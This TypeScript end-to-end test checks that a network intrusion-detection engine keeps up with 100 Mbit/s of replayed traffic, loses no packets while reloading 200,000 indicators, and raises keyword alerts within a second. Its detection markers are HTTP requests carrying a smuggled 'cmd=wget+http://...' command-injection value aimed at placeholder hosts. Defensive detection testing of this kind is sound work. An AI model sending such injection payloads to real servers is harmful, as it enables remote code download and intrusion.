import { chmodSync, closeSync, existsSync, fstatSync, openSync, readSync, writeFileSync } from "node:fs";
import { request } from "node:http";
import { availableParallelism, loadavg, setPriority } from "node:os";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { FrameSender } from "#native/frame-sender.ts";
import { type Running, sleep, start, temporary, until } from "#test/e2e/oddwire.ts";
import { conversations } from "#test/e2e/traffic.ts";
import { VethPair, whyNotLive } from "#test/live/veth-pair.ts";
import { oneRequest } from "./one-request.ts";

const reason = whyNotLive();
const seconds = 8;
/** So long nothing is reloaded: alerts of this time are the ones that have to be quick. */
const quietMs = 4000;
/** So long the engine's code is compiled while it runs. */
const warmMs = 1200;
const bytesPerSecond = 12_500_000;
const pieceMs = 5;
const alertMs = 1000;

describe.skipIf(reason !== undefined)(`keywords live${reason === undefined ? "" : ` (skipped: ${reason})`}`, () => {
  const folder = temporary();
  let pair: VethPair;
  let engine: Running;
  const out = folder.at("live");
  const socket = folder.at("live/api.sock");
  beforeAll(async () => {
    chmodSync(folder.path, 0o755);
    setPriority(-15);
    pair = new VethPair();
    for (const [name, device] of [
      [pair.near, pair.nearInterface],
      [pair.far, pair.farInterface],
    ] as const)
      pair.exec(name, "ip", "link", "set", device, "mtu", "9000");
    writeFileSync(folder.at("indicators.txt"), "10.9.9.9\n");
    engine = start(
      [
        "live",
        "-i",
        pair.nearInterface,
        "-o",
        out,
        "--listen",
        `unix:${socket}`,
        "--set",
        "capture.checksum-validation=no",
        "--set",
        "capture.ring-bytes=134217728",
        "--set",
        `indicators.files=${folder.at("indicators.txt")}`,
      ],
      // Other work on the machine is not what is measured.
      ["nice", "-n", "-15", "ip", "netns", "exec", pair.near],
    );
    await engine.says(/capturing on/);
    expect(await until(async () => (await ask(socket, "GET", "/api/v1/health"))?.["source"] !== undefined)).toBe(true);
  });
  afterAll(async () => {
    engine.process.kill("SIGTERM");
    await engine.ended;
    pair[Symbol.dispose]();
    folder[Symbol.dispose]();
  });

  test(`at 100 Mbit/s with the default keywords, and three reloads of 200,000 indicators: no loss, alerts within a second`, async () => {
    const isBusy = (loadavg()[0] ?? 0) > availableParallelism();
    const socketOf = pair.socket(pair.far);
    const device = pair.number(pair.far, pair.farInterface);
    const filler = conversations(3000, 12_000).map(({ data }) => Uint8Array.from(data));
    let sent = 0;
    let bytes = 0;
    const sendAll = (frames: readonly Uint8Array[]): void => {
      sent += new FrameSender(socketOf, device, frames).sendAll();
      for (const frame of frames) bytes += frame.length;
    };
    const marks: { readonly text: string; readonly at: number; told: number }[] = [];
    const reloads: Promise<unknown>[] = [];
    const tail = new Tail(`${out}/eve.json`);
    let looked = 0;
    const look = (): void => {
      tail.look();
      looked = performance.now();
      for (const mark of marks) if (mark.told === 0 && tail.has(mark.text)) mark.told = looked;
    };
    const started = performance.now();
    let place = 0;
    for (;;) {
      const elapsed = performance.now() - started;
      if (elapsed > seconds * 1000) break;
      const due = (bytesPerSecond * elapsed) / 1000 - bytes;
      const piece: Uint8Array[] = [];
      for (let size = 0; size < due; place++) {
        const frame = filler[place % filler.length] as Uint8Array;
        piece.push(frame);
        size += frame.length;
      }
      if (piece.length > 0) sendAll(piece);
      if (marks.length < (elapsed - warmMs) / 500) {
        const mark = `m${marks.length}.example`;
        sendAll(
          oneRequest(
            [10, 7, 7, marks.length + 1],
            30_000 + marks.length,
            `GET /x?cmd=wget+http://${mark}/a HTTP/1.1\r\nHost: shop.example\r\n\r\n`,
          ),
        );
        marks.push({ text: mark, at: performance.now(), told: 0 });
      }
      if (reloads.length < 3 && elapsed > quietMs + reloads.length * 1500) {
        writeFileSync(folder.at("indicators.txt"), manyIndicators(reloads.length));
        reloads.push(ask(socket, "POST", "/api/v1/rules/reload"));
      }
      if (performance.now() - looked > 50) look();
      await sleep(pieceMs);
    }
    const lasted = (performance.now() - started) / 1000;
    await until(() => {
      look();
      return marks.every(({ told }) => told > 0);
    }, 5000);
    const answers = await Promise.all(reloads);
    expect(answers.length).toBe(3);
    const state = await ask(socket, "GET", "/api/v1/rules");
    expect(state).toMatchObject({ kinds: expect.arrayContaining([expect.objectContaining({ kind: "indicator", loaded: 200_000 })]) });
    engine.process.kill("SIGINT");
    expect(await engine.ended).toBe(0);
    expect(engine.out).toMatch(new RegExp(`^packets +${sent.toLocaleString("en")} .* 0 dropped by the kernel`));
    const delays = marks.map(({ told, at }) => told - at);
    const isQuiet = marks.map(({ at }) => at - started < quietMs - alertMs);
    const latest = Math.max(...delays.filter((_, i) => isQuiet[i]));
    process.stdout.write(
      `${((bytes * 8) / lasted / 1e6).toFixed(0)} Mbit/s, ${sent} packets, none lost; slowest alert ${latest.toFixed(0)} ms, ` +
        `while 200,000 indicators were read anew ${Math.max(...delays).toFixed(0)} ms\n`,
    );
    expect((bytes * 8) / lasted / 1e6).toBeGreaterThan(80);
    expect(marks.length).toBeGreaterThan(5);
    // On a machine with more to do than cores, the wait is not the engine's.
    if (isBusy) process.stdout.write("the machine is busy with other work: the time of alerts is told, not judged\n");
    else expect(latest).toBeLessThan(alertMs);
  });
});

const manyIndicators = (round: number): string =>
  Array.from({ length: 200_000 }, (_, i) =>
    i % 2 === 0 ? `host${i}.evil${round}.example` : `11.${(i >> 16) & 255}.${(i >> 8) & 255}.${i & 255}`,
  ).join("\n");

/** The alerts of keywords that are in eve.json, read on from where the last look ended. */
class Tail {
  readonly #path: string;
  #at = 0;
  #text = "";

  constructor(path: string) {
    this.#path = path;
  }

  /** True once an alert with the text is there. */
  has(text: string): boolean {
    return this.#text.includes(text);
  }

  look(): void {
    if (!existsSync(this.#path)) return;
    const file = openSync(this.#path, "r");
    const fresh = Buffer.alloc(Math.max(0, fstatSync(file).size - this.#at));
    const read = readSync(file, fresh, 0, fresh.length, this.#at);
    closeSync(file);
    // A line that is not complete is read again.
    const end = fresh.subarray(0, read).lastIndexOf(10) + 1;
    this.#at += end;
    for (const line of fresh.subarray(0, end).toString("utf8").split("\n")) if (line.includes('"category":"keyword"')) this.#text += line;
  }
}

/** Asks the API over its socket; `undefined` while it does not answer. */
function ask(socketPath: string, method: string, path: string): Promise<Readonly<Record<string, unknown>> | undefined> {
  return new Promise((resolve) => {
    const asked = request({ socketPath, path, method, headers: { host: "localhost" } }, (response) => {
      let text = "";
      response.on("data", (chunk: Buffer) => {
        text += chunk.toString();
      });
      response.on("end", () => resolve(response.statusCode === 200 ? (JSON.parse(text) as Readonly<Record<string, unknown>>) : undefined));
    });
    asked.on("error", () => resolve(undefined));
    asked.end();
  });
}
